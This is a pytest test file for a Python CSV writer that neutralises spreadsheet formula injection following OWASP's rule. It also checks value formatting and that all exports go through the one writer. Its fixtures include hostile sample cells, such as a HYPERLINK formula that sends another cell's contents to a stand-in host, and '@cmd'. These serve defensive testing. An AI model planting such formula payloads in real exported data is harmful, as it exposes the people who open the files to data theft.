"""The one CSV writer (issue 12 F4): formulas neutralised by OWASP's rule, the rest intact."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import pytest

import gatherly
from gatherly.core import csvout


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_each_dangerous_first_character_gets_a_quote(start: str) -> None:
    for text in (start, f"{start}1+1", f'{start}HYPERLINK("http://x"&B2,"click")'):
        assert csvout.cell(text) == "'" + text


@pytest.mark.parametrize(
    "text",
    ["", "Anna", "Anna-Lena", "a=b", "x@example.com", "1+1", " =1", "'already", "\n=1", "Zoé"],
)
def test_harmless_text_is_unchanged(text: str) -> None:
    assert csvout.cell(text) == text


def test_numbers_none_and_other_values() -> None:
    assert csvout.cell(None) == ""
    assert csvout.cell(-5) == -5  # a number we hold, never a formula
    assert csvout.cell(0) == 0
    assert csvout.cell(3.5) == 3.5
    assert csvout.cell(-2.25) == -2.25
    assert csvout.cell(Decimal("-1.10")) == Decimal("-1.10")
    assert csvout.cell(True) == "true"
    assert csvout.cell(date(2026, 3, 1)) == "2026-03-01"
    assert csvout.cell(datetime(2026, 3, 1, 9, tzinfo=UTC)) == "2026-03-01T09:00:00+00:00"
    assert csvout.cell("-5") == "'-5"  # text that looks like a number is still text


ROWS = [
    [1, '=HYPERLINK("http://x"&B2,"click")', None, -3],
    [2, "@cmd", 'Anna, "the" best', 4.5],
    [3, "\r=cr", "line\nbreak", None],
]
EXPECTED = [
    ["id", "name", "note", "n"],
    ["1", '\'=HYPERLINK("http://x"&B2,"click")', "", "-3"],
    ["2", "'@cmd", 'Anna, "the" best', "4.5"],
    ["3", "'\r=cr", "line\nbreak", ""],
]


def test_write_and_stream_give_the_same_rows() -> None:
    out = io.StringIO()
    assert csvout.write(out, ["id", "name", "note", "n"], ROWS) == 3
    written = out.getvalue()
    assert written.startswith("id,name,note,n\n1,")  # the CLI writes \n line ends
    assert list(csv.reader(io.StringIO(written, newline=""))) == EXPECTED
    chunks = list(csvout.stream(["id", "name", "note", "n"], iter(ROWS), chunk_rows=2))
    assert len(chunks) == 2  # header and two rows, then the last row
    streamed = "".join(chunks)
    assert streamed.startswith("id,name,note,n\r\n")  # RFC 4180 over HTTP
    assert list(csv.reader(io.StringIO(streamed, newline=""))) == EXPECTED


def test_a_header_is_neutralised_too_and_attributes_read_records() -> None:
    class Record:
        def __init__(self, name: str) -> None:
            self.name = name
            self.id = 7

    assert list(csvout.attributes(("id", "name"), [Record("=x")])) == [[7, "=x"]]
    text = "".join(csvout.stream(["=id"], []))
    assert text == "'=id\r\n"


def test_no_other_module_writes_csv() -> None:
    """Every export goes through the one writer: a module writing CSV on its own would
    bypass the neutralising (reading CSV, as the list import does, is fine)."""
    package = Path(gatherly.__file__).parent
    writers = re.compile(
        r"\bcsv\.(writer|DictWriter)\(|\bfrom csv import\b.*\b(writer|DictWriter)\b"
    )
    offenders = [
        str(path.relative_to(package))
        for path in package.rglob("*.py")
        if path.name != "csvout.py" and writers.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
